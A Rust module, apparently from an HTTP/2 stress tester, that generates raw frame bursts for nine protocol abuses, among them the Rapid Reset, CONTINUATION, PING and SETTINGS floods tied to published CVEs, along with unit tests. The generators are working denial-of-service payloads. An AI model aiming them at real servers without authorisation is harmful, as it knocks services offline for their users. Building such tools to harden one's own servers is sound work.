//! HTTP/2 as a hostile client writes it: bursts of frames, each kind of them abused in its own way.
//! Pure.

/// Begins every connection.
pub(crate) const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// How much is written at once.
const BURST_BYTES: usize = 16 << 10;
/// Stream ids end here; then a connection is good for nothing more.
const STREAM_ID_MAX: u32 = 0x7fff_ffff;

const DATA: u8 = 0x0;
const HEADERS: u8 = 0x1;
const PRIORITY: u8 = 0x2;
const RESET: u8 = 0x3;
const SETTINGS: u8 = 0x4;
const PING: u8 = 0x6;
const WINDOW_UPDATE: u8 = 0x8;
const CONTINUATION: u8 = 0x9;
const UNKNOWN: u8 = 0xfa;

const END_STREAM: u8 = 0x1;
const END_HEADERS: u8 = 0x4;

/// What is abused.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub(crate) enum Abuse {
    /// Requests that are reset at once (CVE-2023-44487).
    RapidReset,
    /// Settings, each of which wants an acknowledgement (CVE-2019-9515).
    Settings,
    /// Pings, each of which wants an answer (CVE-2019-9512).
    Ping,
    /// Priorities of streams that are not there (CVE-2019-9513).
    Priority,
    /// The connection's window, made larger by one byte each time.
    WindowUpdate,
    /// A request's headers that never end (CVE-2024-27316).
    Continuation,
    /// More requests than may be open, whose bodies never come.
    Headers,
    /// A body of empty pieces (CVE-2019-9518).
    EmptyData,
    /// Frames of a kind that is not known.
    Unknown,
}

impl Abuse {
    pub(crate) const ALL: [Abuse; 9] = [
        Abuse::RapidReset,
        Abuse::Settings,
        Abuse::Ping,
        Abuse::Priority,
        Abuse::WindowUpdate,
        Abuse::Continuation,
        Abuse::Headers,
        Abuse::EmptyData,
        Abuse::Unknown,
    ];

    /// What is written first: the preface, our settings, and the stream that the bursts belong to.
    pub(crate) fn opening(self) -> Vec<u8> {
        let mut out = PREFACE.to_vec();
        frame(&mut out, SETTINGS, 0, 0, &[]);
        match self {
            Abuse::Continuation => frame(&mut out, HEADERS, END_STREAM, 1, &request(b"GET")),
            Abuse::EmptyData => frame(&mut out, HEADERS, END_HEADERS, 1, &request(b"POST")),
            _ => {}
        }
        out
    }

    /// The next frames, about 16 KiB of them. `stream` is the last stream id that was used.
    ///
    /// Empty: this connection has no stream ids left.
    pub(crate) fn burst(self, stream: &mut u32) -> Vec<u8> {
        let mut out = Vec::with_capacity(2 * BURST_BYTES);
        while out.len() < BURST_BYTES {
            let opens = matches!(self, Abuse::RapidReset | Abuse::Headers | Abuse::Priority);
            if opens {
                // Clients have the odd ones.
                *stream = (*stream + 1) | 1;
                if *stream >= STREAM_ID_MAX {
                    return Vec::new();
                }
            }
            self.once(&mut out, *stream);
        }
        out
    }

    fn once(self, out: &mut Vec<u8>, stream: u32) {
        match self {
            Abuse::RapidReset => {
                frame(out, HEADERS, END_STREAM | END_HEADERS, stream, &request(b"GET"));
                // CANCEL
                frame(out, RESET, 0, stream, &8_u32.to_be_bytes());
            }
            Abuse::Settings => frame(out, SETTINGS, 0, 0, &[]),
            Abuse::Ping => frame(out, PING, 0, 0, b"everynod"),
            Abuse::Priority => frame(out, PRIORITY, 0, stream, &[0, 0, 0, 0, 16]),
            Abuse::WindowUpdate => frame(out, WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()),
            Abuse::Continuation => frame(out, CONTINUATION, 0, 1, b"\x00\x01x\x01y"),
            Abuse::Headers => frame(out, HEADERS, END_HEADERS, stream, &request(b"POST")),
            Abuse::EmptyData => frame(out, DATA, 0, 1, &[]),
            Abuse::Unknown => frame(out, UNKNOWN, 0, 0, b"everynod"),
        }
    }
}

/// A frame: length, kind, flags, stream, payload (RFC 9113, 4.1).
fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let length = u32::try_from(payload.len()).unwrap_or(u32::MAX).to_be_bytes();
    out.extend_from_slice(&length[1..]);
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
}

/// The headers of a request for `/version`, without a table and without Huffman codes (RFC 7541).
fn request(method: &[u8]) -> Vec<u8> {
    // The names are those of the static table: `:method` 2, `:scheme https` 7, `:path` 4,
    // `:authority` 1.
    let mut out = vec![0x87];
    for (name, value) in [(2, method), (4, &b"/version"[..]), (1, &b"localhost"[..])] {
        out.extend_from_slice(&[name, u8::try_from(value.len()).unwrap_or_default()]);
        out.extend_from_slice(value);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Kind and stream of each frame.
    fn frames(mut bytes: &[u8]) -> Vec<(u8, u32)> {
        let mut out = Vec::new();
        while let [a, b, c, kind, _, s, t, u, v, rest @ ..] = bytes {
            let length = u32::from_be_bytes([0, *a, *b, *c]) as usize;
            out.push((*kind, u32::from_be_bytes([*s, *t, *u, *v])));
            bytes = &rest[length..];
        }
        assert!(bytes.is_empty(), "whole frames");
        out
    }

    #[test]
    fn every_burst_is_whole_frames_of_its_kind() {
        for abuse in Abuse::ALL {
            let mut stream = 0;
            let opening = abuse.opening();
            let opened = frames(opening.strip_prefix(PREFACE).unwrap());
            assert_eq!(opened[0], (SETTINGS, 0), "{abuse:?}");
            let burst = abuse.burst(&mut stream);
            assert!((BURST_BYTES..2 * BURST_BYTES).contains(&burst.len()), "{abuse:?}");
            let all = frames(&burst);
            let kinds: std::collections::BTreeSet<u8> = all.iter().map(|(kind, _)| *kind).collect();
            assert_eq!(kinds.len(), if abuse == Abuse::RapidReset { 2 } else { 1 }, "{abuse:?}");
        }
    }

    #[test]
    fn new_streams_are_odd_and_rise_until_there_are_no_more() {
        let mut stream = 0;
        let all = frames(&Abuse::Headers.burst(&mut stream));
        let first: Vec<u32> = all.iter().take(3).map(|(_, stream)| *stream).collect();
        assert_eq!(first, [1, 3, 5]);
        let reset = frames(&Abuse::RapidReset.burst(&mut stream));
        assert_eq!((reset[0].0, reset[1].0, reset[0].1), (HEADERS, RESET, reset[1].1));
        assert!(reset[0].1 > all.last().unwrap().1);
        let mut last = STREAM_ID_MAX - 2;
        assert!(Abuse::Headers.burst(&mut last).is_empty());
    }
}
